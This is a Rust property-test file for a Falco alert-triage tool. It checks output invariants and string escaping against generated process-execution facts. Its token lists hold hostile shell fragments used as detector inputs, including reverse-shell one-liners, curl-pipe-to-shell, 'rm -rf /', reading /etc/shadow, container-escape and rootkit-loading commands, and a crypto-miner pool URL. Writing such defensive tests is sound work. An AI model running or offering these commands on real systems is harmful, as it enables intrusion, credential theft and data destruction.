//! Property tests: the output invariants (tests/common/invariants.rs) hold for generated
//! exec facts of every shape: argv of arbitrary Unicode with control characters, ANSI
//! escapes, newlines, NUL and very long strings, shell-looking command lines that make the
//! detectors fire, any environment, exe flags, capabilities, container or host, uid, tty and
//! lineages of arbitrary comms.
//!
//! Case counts stay modest (PROPTEST_CASES overrides them) so the suite runs in seconds.

#[path = "common/invariants.rs"]
mod invariants;

use falco_triage::analysis::{Ancestor, Lineage};
use falco_triage::facts::{Capabilities, ContainerInfo, ContainerRuntime, ExeFlags, ExecFacts};
use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;

/// Characters attackers like: controls, ANSI, line breaks, bidi overrides, NUL, replacement
/// characters, wide and combining characters.
fn nasty_char() -> impl Strategy<Value = char> {
    prop_oneof![
        4 => any::<char>(),
        2 => proptest::char::range('\0', '\u{1f}'),
        1 => proptest::char::range('\u{7f}', '\u{9f}'),
        1 => select(vec![
            '\x1b', '\n', '\r', '\t', '\0', '\u{2028}', '\u{2029}', '\u{202e}', '\u{2066}',
            '\u{200f}', '\u{feff}', '\u{fffd}', '\u{301}', '…', '界', '\u{a0}', '\u{2000}',
            '\u{3000}',
        ]),
        4 => proptest::char::range(' ', '~'),
    ]
}

fn nasty_string(max: usize) -> impl Strategy<Value = String> {
    vec(nasty_char(), 0..max).prop_map(|cs| cs.into_iter().collect())
}

/// Words that steer the detectors down their interesting paths.
const TOKENS: &[&str] = &[
    "sh",
    "bash",
    "-c",
    "-i",
    "nc",
    "ncat",
    "-e",
    "/bin/sh",
    "curl",
    "wget",
    "-O-",
    "|",
    ";",
    "&&",
    "||",
    "&",
    "$(",
    ")",
    "`",
    ">&",
    "/dev/tcp/10.0.0.1/4444",
    "0>&1",
    "2>&1",
    "python3",
    "import socket,os,pty;pty.spawn('/bin/sh')",
    "base64",
    "-d",
    "chmod",
    "+x",
    "/tmp/x",
    "/dev/shm/x",
    "xmrig",
    "stratum+tcp://pool:3333",
    "cat",
    "/etc/shadow",
    "nsenter",
    "--target",
    "1",
    "--mount",
    "insmod",
    "rootkit.ko",
    "crontab",
    "sudo",
    "busybox",
    "env",
    "X=1",
    "timeout",
    "10",
    "nohup",
    "history",
    "$IFS",
    "${IFS}",
    "-c",
    "rm",
    "-rf",
    "/",
    "kubectl",
    "docker",
    "event-generator",
    "'",
    "\"",
    "\\",
    "\n",
    "\x1b[31m",
    "sh -c 'curl http://x | sh'",
    "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
    "",
    " ",
];

fn arg() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => select(TOKENS).prop_map(str::to_string),
        3 => nasty_string(24),
        // Long, but not so long that 256 debug-build cases take more than seconds: the
        // adversarial tests cover megabytes.
        1 => (nasty_string(8), 50usize..600).prop_map(|(s, n)| s.repeat(n)),
        1 => vec(select(TOKENS), 1..12).prop_map(|ws| ws.join(" ")),
    ]
}

fn argv() -> impl Strategy<Value = Vec<String>> {
    vec(arg(), 0..16)
}

fn container() -> impl Strategy<Value = Option<ContainerInfo>> {
    let runtime = select(vec![
        ContainerRuntime::Docker,
        ContainerRuntime::Containerd,
        ContainerRuntime::CriO,
        ContainerRuntime::Podman,
        ContainerRuntime::Kubepods,
    ]);
    proptest::option::of(
        (runtime, "[0-9a-f]{12}")
            .prop_map(|(runtime, short_id)| ContainerInfo { runtime, short_id }),
    )
}

prop_compose! {
    fn exec_facts()(
        argv in argv(),
        argv_truncated in any::<bool>(),
        exe_path in proptest::option::of(prop_oneof![select(vec!["/usr/bin/nc.openbsd", "/bin/bash", "/tmp/.x/kworker", "/dev/shm/a", "/memfd:x (deleted)"]).prop_map(str::to_string), nasty_string(64)]),
        cwd in proptest::option::of(nasty_string(32)),
        comm in proptest::option::of(nasty_string(20)),
        env in vec(prop_oneof![nasty_string(20), select(vec!["LD_PRELOAD=/tmp/x.so", "AWS_SECRET_ACCESS_KEY=k", "HISTFILE=/dev/null", "PATH=/usr/bin"]).prop_map(str::to_string)], 0..8),
        env_truncated in any::<bool>(),
        tty in proptest::option::of(prop_oneof![Just(0u32), any::<u32>()]),
        uid in proptest::option::of(prop_oneof![Just(0u32), Just(1000u32), any::<u32>()]),
        gid in proptest::option::of(any::<u32>()),
        loginuid in proptest::option::of(prop_oneof![Just(u32::MAX), any::<u32>()]),
        ids in (proptest::option::of(any::<i64>()), proptest::option::of(any::<i64>()), proptest::option::of(any::<i64>())),
        res in proptest::option::of(prop_oneof![Just(0i64), Just(-2i64), any::<i64>()]),
        exe_flags in proptest::option::of(any::<u32>().prop_map(ExeFlags)),
        caps in (proptest::option::of(any::<u64>()), proptest::option::of(any::<u64>()), proptest::option::of(prop_oneof![Just(0xa80425fbu64), Just(0x1ff_ffff_ffffu64), any::<u64>()])),
        container in container(),
        cgroups_present in any::<bool>(),
        inode in (proptest::option::of(any::<u64>()), proptest::option::of(any::<u64>()), proptest::option::of(any::<u64>())),
    ) -> ExecFacts {
        ExecFacts {
            argv,
            argv_truncated,
            exe_path,
            cwd,
            comm,
            env,
            env_truncated,
            env_entries: 0,
            tty,
            uid,
            gid,
            loginuid,
            tid: ids.0,
            pid: ids.1,
            ptid: ids.2,
            res,
            exe_flags,
            caps: Capabilities { inheritable: caps.0, permitted: caps.1, effective: caps.2 },
            cgroups_present: cgroups_present || container.is_some(),
            container,
            exe_ino: inode.0,
            exe_ino_ctime: inode.1,
            exe_ino_mtime: inode.2,
        }
    }
}

fn lineage() -> impl Strategy<Value = Lineage> {
    let comm = prop_oneof![
        select(vec![
            "bash",
            "sh",
            "sshd",
            "nginx",
            "java",
            "containerd-shim",
            "runc",
            "event-generator",
            "python3",
            "systemd",
            "<NA>",
            "cron",
            "kubelet"
        ])
        .prop_map(str::to_string),
        nasty_string(40),
    ];
    let ancestor = (
        comm,
        proptest::option::of(nasty_string(40)),
        vec(arg(), 0..4),
    )
        .prop_map(|(comm, exe, args)| Ancestor { comm, exe, args })
        .boxed();
    (
        vec(ancestor.clone(), 0..12),
        any::<bool>(),
        proptest::option::of(ancestor),
    )
        .prop_map(|(ancestors, known, earlier)| Lineage {
            known: known || !ancestors.is_empty(),
            ancestors,
            earlier,
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn every_verdict_keeps_the_invariants(facts in exec_facts(), lineage in lineage()) {
        invariants::check_analysis(&facts, &lineage);
    }

    #[test]
    fn argv_only_facts_keep_the_invariants(argv in argv()) {
        // The command line's and the corpus's path: facts from argv alone, no lineage.
        invariants::check_analysis(&ExecFacts::from_argv(argv), &Lineage::default());
    }

    #[test]
    fn escape_neutralises_and_bounds(s in nasty_string(200), max in 0usize..300) {
        invariants::check_escape(&s, max);
    }

    #[test]
    fn escape_is_bounded_on_long_input(s in nasty_string(16), n in 1usize..2000, max in 0usize..64) {
        let long = s.repeat(n);
        let out = invariants::check_escape(&long, max);
        if long.chars().count() > max && max >= 12 {
            // A cut is announced with how much was left out.
            prop_assert!(out.contains("…[+"), "{out:?}");
        }
    }
}
